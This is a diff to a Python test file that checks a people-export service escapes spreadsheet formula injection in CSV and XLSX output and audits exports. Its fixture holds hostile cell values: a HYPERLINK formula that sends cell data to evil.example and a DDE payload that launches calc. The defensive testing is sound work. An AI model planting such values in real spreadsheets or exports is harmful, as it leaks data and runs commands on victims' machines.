@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import date
 
@@ -63,5 +64,73 @@ def test_an_export_by_an_actor_is_audited(org, members):
 
     services.export_people(organisation=org, fmt="csv", actor=members["admin"].user)
     event = AuditEvent.objects.get(action="people.exported")
-    assert event.details == {"format": "csv"}
+    assert event.details == {"format": "csv", "filters": {}, "rows": 2}
     assert event.actor == members["admin"].user
+    assert (event.organisation, event.target_id) == (org, str(org.pk))
+
+
+@pytest.fixture
+def hostile(org, unit):
+    return PersonFactory(
+        organisation=org,
+        employee_id="-7",
+        name='=HYPERLINK("http://evil.example/?"&A2,"open")',
+        email="-x@evil.test",
+        title="+cmd|' /C calc'!A0",
+        location="@SUM(1+1)",
+        org_unit=unit,
+        start_date=date(2022, 3, 4),
+    )
+
+
+def test_csv_export_escapes_formula_triggers(org, hostile):
+    content, _type, _name = services.export_people(organisation=org, fmt="csv")
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[1] == [
+        "'-7",
+        '\'=HYPERLINK("http://evil.example/?"&A2,"open")',
+        "'-x@evil.test",
+        "'+cmd|' /C calc'!A0",
+        "HQ",
+        "",
+        "",
+        "'@SUM(1+1)",
+        "2022-03-04",
+        "true",
+    ]
+
+
+def test_xlsx_export_escapes_formula_triggers_and_keeps_dates(org, hostile):
+    content, _type, _name = services.export_people(organisation=org, fmt="xlsx")
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    cells = next(sheet.iter_rows(min_row=2, max_row=2))
+    assert all(c.data_type != "f" for c in cells)
+    assert [c.value for c in cells[:4]] == [
+        "'-7",
+        '\'=HYPERLINK("http://evil.example/?"&A2,"open")',
+        "'-x@evil.test",
+        "'+cmd|' /C calc'!A0",
+    ]
+    assert cells[8].value.date() == date(2022, 3, 4)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_escaped_export_re_imports_unchanged(org, hostile, fmt):
+    content, _type, filename = services.export_people(organisation=org, fmt=fmt)
+    result = services.import_people(
+        organisation=org, actor=None, content=content, filename=filename
+    )
+    assert result.ok, result.errors
+    assert (result.total, result.unchanged, result.updated) == (1, 1, 0)
+    hostile.refresh_from_db()
+    assert hostile.name.startswith("=HYPERLINK")
+    assert hostile.email == "-x@evil.test"
+
+
+def test_the_command_line_export_is_audited_too(org, hostile):
+    from bellwether.core.models import AuditEvent
+
+    services.export_people(organisation=org, fmt="xlsx")
+    event = AuditEvent.objects.get(action="people.exported")
+    assert (event.actor, event.actor_label) == (None, "command line")
+    assert event.details == {"format": "xlsx", "filters": {}, "rows": 1}
